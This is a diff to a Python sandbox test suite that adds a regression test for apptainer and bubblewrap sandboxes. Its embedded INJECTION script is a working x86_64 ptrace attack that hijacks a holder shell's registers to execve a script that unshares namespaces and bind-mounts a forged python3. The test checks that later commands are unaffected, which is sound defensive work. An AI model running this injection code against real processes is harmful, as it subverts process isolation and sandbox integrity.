@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import os
+import platform
 import signal
 import uuid
 from contextlib import suppress
@@ -155,5 +156,65 @@ def test_a_file_call_finds_nothing_of_the_servers(sandboxes: Sandboxes) -> None:
         with pytest.raises(SandboxFailed):
             await sandbox.write_file("/tmp/link", b"")
         await sandbox.exec(["rm", "-f", "/tmp/link"], LIMIT_S)
+
+    use(sandboxes, body)
+
+
+INJECTION = """
+import ctypes, os, struct, time
+libc = ctypes.CDLL(None)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+(holder,) = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()
+             and b"read -r line" in open(f"/proc/{p}/cmdline", "rb").read()
+             and open(f"/proc/{p}/comm").read() == "sh\\n"]
+open("/workspace/fake", "w").write("#!/bin/sh\\necho forged\\n")
+os.chmod("/workspace/fake", 0o755)
+open("/workspace/taken.py", "w").write('''
+import ctypes, os, time
+libc = ctypes.CDLL(None)
+uid, gid = os.getuid(), os.getgid()
+libc.unshare(0x10020000)
+for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
+    try:
+        open("/proc/self/" + name, "w").write(text)
+    except OSError:
+        pass
+libc.mount(b"/workspace/fake", os.path.realpath("/usr/bin/python3").encode(), None, 4096, None)
+time.sleep(1000)
+''')
+libc.ptrace(16, holder, None, None)
+os.waitpid(holder, 0)
+registers = (ctypes.c_ulonglong * 27)()
+libc.ptrace(12, holder, None, ctypes.addressof(registers))
+base = (registers[19] - 8192) & ~15
+words, places = b"", []
+for word in (b"/usr/bin/python3", b"/workspace/taken.py"):
+    places.append(base + len(words))
+    words += word + bytes(1)
+words += bytes(-len(words) % 8)
+arguments = base + len(words)
+words += b"".join(struct.pack("<Q", place) for place in (*places, 0))
+for i in range(0, len(words), 8):
+    libc.ptrace(5, holder, base + i, int.from_bytes(words[i : i + 8], "little"))
+registers[10], registers[14], registers[13], registers[12] = 59, places[0], arguments, 0  # execve
+registers[15] = (1 << 64) - 1
+registers[16] -= 2
+libc.ptrace(13, holder, None, ctypes.addressof(registers))
+libc.ptrace(17, holder, None, None)
+time.sleep(1)
+print(open(f"/proc/{holder}/cmdline").read().replace(chr(0), " "))
+"""
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack is written for this machine's registers")
+@pytest.mark.parametrize("kind", ["apptainer", "bubblewrap"], indirect=True)
+def test_a_holder_that_was_taken_over_moves_no_later_command(sandboxes: Sandboxes) -> None:
+    """It went to a mount namespace with another python3, and the next check ran there."""
+
+    async def body(sandbox: Sandbox) -> None:
+        taken = await sandbox.exec(["python3", "-c", INJECTION], LIMIT_S)
+        assert b"taken.py" in taken.stdout, taken
+        result = await sandbox.exec(["python3", "-c", "print('honest')"], LIMIT_S)
+        assert result.stdout == b"honest\n"
 
     use(sandboxes, body)
